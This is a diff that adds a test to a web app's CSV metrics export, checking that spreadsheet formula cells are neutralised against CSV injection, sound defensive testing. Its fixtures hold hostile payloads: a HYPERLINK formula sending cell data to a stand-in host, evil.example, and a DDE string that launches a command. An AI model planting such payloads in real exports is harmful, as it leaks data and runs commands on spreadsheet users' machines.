@@ -163,3 +163,18 @@ def test_csv_export_matches_the_figures(client, fixture_incidents, follow_up, vi
     assert ["action_items", "overdue", "1", "count", ""] in rows
     assert ["postmortems", "on_time", "1", "count", ""] in rows
     assert ["postmortems_on_time_rate", "all", "0.3333", "ratio", ""] in rows
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, fixture_incidents, viewer):
+    """OWASP CSV injection: text cells beginning with = + - @ tab or CR get a leading '."""
+    Service.objects.filter(slug="api").update(name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
+    Service.objects.filter(slug="db").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    Incident.objects.filter(root_cause_tag="bad-deploy").update(root_cause_tag="-2+3")
+    client.force_login(viewer)
+    rows = list(csv.reader(io.StringIO(client.get("/reports/metrics.csv", {"since": "2026-03-02", "until": "2026-03-15"}).content.decode())))
+    assert ["mtbf", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "603000.0", "seconds", ""] in rows
+    assert any(r[1] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in rows if r[0] == "mtbf")
+    for row in rows:
+        for cell in row:
+            if cell and cell[0] in "=+-@\t\r":
+                float(cell)  # only numbers may start so (a negative figure)
